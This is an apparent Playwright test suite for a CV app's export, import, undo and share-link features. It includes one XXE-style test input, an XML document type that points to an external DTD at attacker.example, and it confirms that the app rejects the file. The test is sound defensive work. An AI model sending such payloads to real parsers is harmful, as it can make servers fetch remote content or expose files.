import type { BrowserContext, Page } from "playwright/test"
import { call } from "../support/call.ts"
import { signUpToEverything } from "./support/accounts.ts"
import { chooseFile, savedFile } from "./support/files.ts"
import { enterAt } from "./support/journey/keyboard.ts"
import { load } from "./support/looks.ts"
import { expect, expectAccessible, test } from "./support/test.ts"

test.use({ viewport: { width: 360, height: 740 } })

const lists = {
  summary: [{ text: "I mend radios." }],
  education: [{ institution: "Umzila Example High", level: "grade_12", start: "2021-01", end: "2025-11" }],
  workExperience: [{ role: "Cashier", employer: "Corner Shop", start: "2024-02", current: true }],
  skills: [{ name: "Soldering", category: "hard", proficiency: "skillful" }],
  customRecords: [{ title: "Driver's licence", subtitle: "Code B" }],
}

async function newOwner(context: BrowserContext, origin: string, filled: boolean): Promise<void> {
  await signUpToEverything(context, origin)
  for (const [list, items] of Object.entries(filled ? lists : {}))
    for (const data of items)
      expect((await call(context.request, origin, "POST", `users/${list}`, { data })).ok()).toBe(true)
}

const itemsOf = async (context: BrowserContext, origin: string) => {
  const answer = await call(context.request, origin, "GET", "auth/get-user")
  const { profile } = (await answer.json()) as { profile: Record<string, unknown> }
  return Object.fromEntries(Object.keys(lists).map((list) => [list, profile[list]]))
}
const button = (page: Page, name: string) => page.getByRole("button", { name, exact: true })

const download = async (page: Page, name: string): Promise<string> =>
  (await savedFile(page, () => button(page, name).click())).toString("utf8")

const choose = (page: Page, name: string, text: string): Promise<void> =>
  chooseFile(page, () => button(page, "Choose a file").click(), { name, mimeType: "application/json", text })

test("a CV goes out of one account and into another, where it is the same", async ({
  page,
  context,
  browser,
  server,
  faults,
}) => {
  const { origin } = server
  await newOwner(context, origin, true)
  await load(page, `${origin}/cv?view=share`)
  const json = await download(page, "Download as JSON Resume")
  expect(await download(page, "Download as Europass XML")).toContain("<hr:OrganizationName>Corner Shop")

  const elsewhere = await browser.newContext({ viewport: { width: 360, height: 740 } })
  faults.watch(elsewhere)
  await newOwner(elsewhere, origin, false)
  const other = await elsewhere.newPage()
  await load(other, `${origin}/cv?view=share`)
  faults.allow(/422/)
  await choose(other, "cv.xml", '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd"><x/>')
  await expect(other.getByText(/declares a document type/)).toBeVisible()
  await choose(other, "cv.json", json)
  await expect(other.getByText("In this file: 5 new.")).toBeVisible()
  await expect(other.getByText("Cashier", { exact: true })).toBeVisible()
  await expectAccessible(other)
  // Looking has written nothing.
  expect(Object.values(await itemsOf(elsewhere, origin)).filter(Boolean)).toEqual([])
  await button(other, "Put it into my CV").click()
  await expect(other.getByText("It is in your CV now.").first()).toBeVisible()
  expect(await itemsOf(elsewhere, origin)).toEqual(await itemsOf(context, origin))

  await choose(other, "cv.json", json.replaceAll("Corner Shop", "Central Market"))
  await expect(other.getByText("In this file: 1 changed and 4 the same.")).toBeVisible()
  await expect(other.getByText("For whom you worked: Corner Shop → Central Market")).toBeVisible()
  await button(other, "Put it into my CV").click()
  await expect(button(other, "Take it back")).toBeVisible()
  expect(JSON.stringify(await itemsOf(elsewhere, origin))).toContain("Central Market")
  await button(other, "Take it back").click()
  await expect(button(other, "Take it back")).toHaveCount(0)
  expect(await itemsOf(elsewhere, origin)).toEqual(await itemsOf(context, origin))
  await elsewhere.close()
})

test("by keyboard alone a CV goes out, and comes in once it is seen what that would change", async ({
  page,
  context,
  server,
}) => {
  const { origin } = server
  await newOwner(context, origin, true)
  await load(page, `${origin}/cv?view=share`)
  const before = await itemsOf(context, origin)
  const file = await savedFile(page, () => enterAt(page, button(page, "Download as JSON Resume")))
  const text = file.toString("utf8").replaceAll("Corner Shop", "Central Market")
  await page.reload()
  await chooseFile(page, () => enterAt(page, button(page, "Choose a file")), {
    name: "cv.json",
    mimeType: "application/json",
    text,
  })
  await expect(page.getByText("In this file: 1 changed and 4 the same.")).toBeVisible()
  await expect(page.getByText("For whom you worked: Corner Shop → Central Market")).toBeVisible()
  expect(await itemsOf(context, origin)).toEqual(before)
  await expectAccessible(page)

  await enterAt(page, button(page, "Put it into my CV"))
  await expect(page.getByText("It is in your CV now.").first()).toBeVisible()
  expect(JSON.stringify(await itemsOf(context, origin))).toContain("Central Market")
  await expectAccessible(page)
  await enterAt(page, button(page, "Take it back"))
  await expect(button(page, "Take it back")).toHaveCount(0)
  expect(await itemsOf(context, origin)).toEqual(before)
})

test("what is hidden is in no file and behind no link; a link that was taken back is dead", async ({
  page,
  context,
  browser,
  server,
  faults,
}) => {
  const { origin } = server
  await newOwner(context, origin, true)
  const hidden = { section: "workExperience", hide: true }
  expect((await call(context.request, origin, "POST", "users/cv/hide-section", hidden)).ok()).toBe(true)
  await load(page, `${origin}/cv?view=share`)
  for (const name of ["Download as JSON Resume", "Download as Europass XML"]) {
    const file = await download(page, name)
    expect(file).toContain("Umzila Example High")
    expect(file).not.toContain("Corner Shop")
  }
  await button(page, "Make a link").click()
  const link = page.getByText(/\/shared\/cv\/[\w-]{40,}$/)
  await expect(link).toBeVisible()
  const address = new URL((await link.textContent())!.trim()).pathname

  const stranger = await browser.newContext({ viewport: { width: 360, height: 740 } })
  faults.watch(stranger)
  const shown = await stranger.newPage()
  const asked: string[] = []
  shown.on("request", (request) => asked.push(new URL(request.url()).origin))
  await load(shown, origin + address)
  await expect(shown.getByText("Umzila Example High").first()).toBeVisible()
  await expect(shown.getByText("Corner Shop")).toHaveCount(0)
  await expectAccessible(shown)
  expect([...new Set(asked)]).toEqual([origin])

  await load(page, `${origin}/cv?view=share`)
  await expect(page.getByText("Opened once")).toBeVisible()
  await button(page, "Take back").first().click()
  faults.allow(/404/)
  await load(shown, origin + address)
  await expect(shown.getByRole("heading", { name: "This link does not lead to a CV" })).toBeVisible()
  await expectAccessible(shown)
  await stranger.close()
})
